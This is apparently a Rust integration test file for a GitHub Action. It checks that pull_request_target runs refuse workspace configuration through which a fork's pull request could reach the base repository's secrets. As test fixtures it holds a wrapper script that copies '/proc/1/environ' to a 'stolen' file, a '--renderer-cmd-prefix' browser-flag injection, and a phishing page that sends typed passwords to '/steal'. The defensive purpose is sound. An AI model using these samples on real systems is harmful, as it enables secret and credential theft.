//! Under `pull_request_target` the Action holds the base repository's secrets while the
//! checked-out windup.toml and e2e/manifest.yaml are the pull request's. Each attack a stranger
//! could write there is replayed and refused before anything starts: exit 2, the file and the
//! key named with the fix, and the attacker's program never runs, their server never hears from
//! the Action. Where the attack needs a push to be shown real (the same files in the
//! repository's own push do reach the server), the test shows that too. Real processes and
//! real servers on loopback throughout.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use windup_testkit::Server;
use windup_testkit::app::{App, AppRequest, AppResponse};

use super::{Workflow, stdout};

/// A server on 127.0.0.1 that records every request it gets (method, path, query and the
/// `authorization` header) and answers `page` (or a 500 for anything but `GET`).
struct Recorder {
    app: App,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Recorder {
    fn start(page: &'static str) -> Recorder {
        let seen: Arc<Mutex<Vec<String>>> = Arc::default();
        let log = seen.clone();
        let app = App::start(move |r: &AppRequest| {
            let auth = r
                .headers
                .iter()
                .find(|(k, _)| k == "authorization")
                .map(|(_, v)| v.as_str())
                .unwrap_or("");
            log.lock()
                .unwrap()
                .push(format!("{} {}?{} {auth}", r.method, r.path, r.query));
            if r.method == "GET" {
                AppResponse::html(page)
            } else {
                AppResponse {
                    status: 500,
                    headers: vec![],
                    body: "{}".into(),
                }
            }
        });
        Recorder { app, seen }
    }

    fn origin(&self) -> String {
        self.app.base.as_str().trim_end_matches('/').to_string()
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// The workflow as a `pull_request_target` run on a fork's pull request, testing the app
/// served at `app` (the `base-url` input: the workflow's own).
fn pull_request_target(app: &Server) -> Workflow {
    let mut w = Workflow::new();
    w.event("evil/app");
    w.env
        .insert("GITHUB_EVENT_NAME".into(), "pull_request_target".into());
    w.env.insert("GITHUB_REF".into(), "refs/heads/main".into());
    w.input("base-url", app.base.as_str())
        .input("scenarios", "sign-in");
    w
}

/// The same workspace as the repository's own push to main.
fn as_push(w: &mut Workflow) {
    std::fs::write(
        w.path("event.json"),
        json!({"ref": "refs/heads/main"}).to_string(),
    )
    .unwrap();
    w.env.insert("GITHUB_EVENT_NAME".into(), "push".into());
    w.env.insert("GITHUB_REF".into(), "refs/heads/main".into());
}

fn append(path: &Path, text: &str) {
    let before = std::fs::read_to_string(path).unwrap_or_default();
    std::fs::write(path, format!("{before}\n{text}\n")).unwrap();
}

/// Runs the Action and checks it refused the run: exit 2, and one `::error` on `file` naming
/// `key`, with the fix. Returns the log.
#[track_caller]
fn refused(w: &Workflow, file: &str, key: &str) -> String {
    let out = w.run();
    let log = stdout(&out);
    assert_eq!(out.status.code(), Some(2), "{log}");
    let errors: Vec<&str> = log.lines().filter(|l| l.starts_with("::error")).collect();
    assert_eq!(errors.len(), 1, "only {key} is refused: {log}");
    let line = errors[0];
    assert!(
        line.starts_with(&format!("::error file={file},title=windup%3A bad input::")),
        "{line}"
    );
    assert!(line.contains(&format!("{file}: {key}: ")), "{line}");
    assert!(line.contains("under pull_request_target"), "{line}");
    assert!(line.contains("; fix: "), "{line}");
    assert!(!w.path("output.txt").exists(), "nothing ran: {log}");
    log
}

/// A folder anyone may write in, and a script there that leaves `marker` when it runs and
/// then runs Chromium, as an attacker's wrapper would.
fn marker_script() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let marker = dir.path().join("ran");
    let script = dir.path().join("evil.sh");
    let chromium = windup_engine::browser::find_chromium(None, true).expect("a Chromium");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\ncat /proc/1/environ > {} 2>&1; touch {}\nexec {} \"$@\"\n",
            dir.path().join("stolen").display(),
            marker.display(),
            chromium.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    (dir, script, marker)
}

#[test]
fn under_pull_request_target_a_browser_executable_from_the_workspace_never_runs() {
    let app = Server::start(&windup_testkit::repo_root().join("examples/acme/app"));
    let w = pull_request_target(&app);
    let (_dir, script, marker) = marker_script();
    append(
        &w.path("acme/windup.toml"),
        &format!("[browser]\nexecutable = \"{}\"", script.display()),
    );
    let log = refused(&w, "acme/windup.toml", "[browser] executable");
    assert!(
        log.contains("WINDUP_CHROMIUM"),
        "the fix names the way: {log}"
    );
    assert!(!marker.exists(), "the script never ran");
    assert_eq!(app.total_hits(), 0, "no browser ever opened the app");
}

#[test]
fn under_pull_request_target_browser_flags_from_the_workspace_never_run_a_program() {
    let app = Server::start(&windup_testkit::repo_root().join("examples/acme/app"));
    let w = pull_request_target(&app);
    let (_dir, script, marker) = marker_script();
    append(
        &w.path("acme/windup.toml"),
        &format!(
            "[browser]\nargs = [\"--renderer-cmd-prefix={}\"]",
            script.display()
        ),
    );
    refused(&w, "acme/windup.toml", "[browser] args");
    assert!(!marker.exists(), "the script never ran");
    assert_eq!(app.total_hits(), 0);
}

#[test]
fn under_pull_request_target_a_cdp_url_from_the_workspace_is_never_attached_to() {
    let app = Server::start(&windup_testkit::repo_root().join("examples/acme/app"));
    let w = pull_request_target(&app);
    let evil = Recorder::start("{}");
    append(
        &w.path("acme/windup.toml"),
        &format!("[browser]\ncdp_url = \"{}\"", evil.origin()),
    );
    refused(&w, "acme/windup.toml", "[browser] cdp_url");
    assert_eq!(evil.requests(), Vec::<String>::new(), "never asked");
    assert_eq!(app.total_hits(), 0);
}

/// A provider whose key is in `ACME_LLM_KEY`, sent to `base_url`, with planning needed (the
/// `sign-in` plan removed) and no retry.
fn provider_at(w: &mut Workflow, base_url: &str) {
    append(
        &w.path("acme/windup.toml"),
        &format!(
            "[providers.acme]\nkind = \"openai\"\nmodel = \"gpt-4.1-mini\"\napi_key_env = \"ACME_LLM_KEY\"\nbase_url = \"{base_url}\"\nmax_retries = 0"
        ),
    );
    std::fs::remove_file(w.path("acme/e2e/.windup/cache/sign-in.json")).unwrap();
    w.env
        .insert("ACME_LLM_KEY".into(), "sk-acme-secret-0123456789".into());
}

#[test]
fn a_provider_base_url_the_workflow_did_not_allow_gets_no_request_in_any_event() {
    let app = Server::start(&windup_testkit::repo_root().join("examples/acme/app"));
    let evil = Recorder::start("{}");
    let base = format!("{}/v1", evil.origin());

    // Under pull_request_target: the stranger's address is refused.
    let mut w = pull_request_target(&app);
    provider_at(&mut w, &base);
    let log = refused(&w, "acme/windup.toml", "[providers.acme] base_url");
    assert!(log.contains("provider-base-urls"), "{log}");
    assert_eq!(evil.requests(), Vec::<String>::new());

    // In the repository's own push, too: the key goes only where the workflow allows.
    as_push(&mut w);
    let out = w.run();
    let log = stdout(&out);
    assert_eq!(out.status.code(), Some(2), "{log}");
    assert!(
        log.contains("acme/windup.toml: [providers.acme] base_url: the provider's key (`ACME_LLM_KEY`) would be sent to"),
        "{log}"
    );
    assert_eq!(evil.requests(), Vec::<String>::new());

    // Listed in `provider-base-urls`, the same address is planned with (the key reaches it):
    // what the refusals above kept from the stranger.
    w.input("provider-base-urls", &base);
    let out = w.run();
    let log = stdout(&out);
    assert_ne!(out.status.code(), Some(2), "{log}");
    let requests = evil.requests();
    assert!(
        requests
            .iter()
            .any(|r| r.starts_with("POST /v1/chat/completions?")
                && r.ends_with("Bearer sk-acme-secret-0123456789")),
        "{requests:?}\n{log}"
    );
}

/// A page on the attacker's origin that signs nobody in, but sends what is typed into its
/// password field home.
const PHISHING: &str = r#"<!doctype html><title>Sign in</title>
<label>Email <input type=email></label>
<label>Password <input type=password id=p></label>
<script>p.addEventListener('input', () => fetch('/steal?p=' + encodeURIComponent(p.value)));</script>"#;

/// The example's committed `sign-in` plan with `steps` first.
fn plan_starting_with(w: &Workflow, steps: Value) {
    let path = w.path("acme/e2e/.windup/cache/sign-in.json");
    let mut entry: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let actions = entry["plan"]["actions"].as_array_mut().unwrap();
    for (i, step) in steps.as_array().unwrap().iter().enumerate() {
        actions.insert(i, step.clone());
    }
    std::fs::write(&path, serde_json::to_string_pretty(&entry).unwrap()).unwrap();
}

#[test]
fn under_pull_request_target_the_workspace_cannot_send_plans_or_credentials_to_another_origin() {
    let app = Server::start(&windup_testkit::repo_root().join("examples/acme/app"));
    let evil = Recorder::start(PHISHING);

    // `[planner] allowed_origins`: a committed plan may then go to the attacker's site.
    let mut w = pull_request_target(&app);
    append(
        &w.path("acme/windup.toml"),
        &format!("[planner]\nallowed_origins = [\"{}\"]", evil.origin()),
    );
    plan_starting_with(
        &w,
        json!([{"id": "x1", "type": "goto", "url": format!("{}/hello", evil.origin())}]),
    );
    let log = refused(&w, "acme/windup.toml", "[planner] allowed_origins[0]");
    assert!(log.contains("allowed-origins"), "{log}");
    assert_eq!(evil.requests(), Vec::<String>::new());
    // The repository's own push runs it: the attack is real.
    as_push(&mut w);
    let out = w.run();
    assert!(
        evil.requests().iter().any(|r| r.starts_with("GET /hello?")),
        "{}",
        stdout(&out)
    );

    // The manifest's account `origins`: the password may then be typed on the attacker's page.
    let evil = Recorder::start(PHISHING);
    let mut w = pull_request_target(&app);
    std::fs::write(
        w.path("acme/e2e/manifest.yaml"),
        format!(
            "accounts:\n  admin:\n    email: ACME_ADMIN_EMAIL\n    password: ACME_ADMIN_PASSWORD\n    origins: [\"{}\"]\n",
            evil.origin()
        ),
    )
    .unwrap();
    plan_starting_with(
        &w,
        json!([
            {"id": "x1", "type": "goto", "url": format!("{}/login", evil.origin())},
            {"id": "x2", "type": "fill", "target": {"selector": "label=\"Password\""}, "value_ref": "ACME_ADMIN_PASSWORD"}
        ]),
    );
    let log = refused(&w, "acme/e2e/manifest.yaml", "accounts.admin.origins[0]");
    assert!(log.contains("allowed-origins"), "{log}");
    assert_eq!(evil.requests(), Vec::<String>::new());
    as_push(&mut w);
    let out = w.run();
    let stolen = "GET /steal?p=correct%20horse%20battery%20staple";
    assert!(
        evil.requests().iter().any(|r| r.starts_with(stolen)),
        "the push types the password there: {:?}\n{}",
        evil.requests(),
        stdout(&out)
    );

    // Listed in the workflow's `allowed-origins`, the origin is the workflow's choice.
    let mut w = pull_request_target(&app);
    std::fs::write(
        w.path("acme/e2e/manifest.yaml"),
        "accounts:\n  admin:\n    email: ACME_ADMIN_EMAIL\n    password: ACME_ADMIN_PASSWORD\n    origins: [\"https://sso.acme.test\"]\n",
    )
    .unwrap();
    w.input("allowed-origins", "https://sso.acme.test");
    let out = w.run();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
}
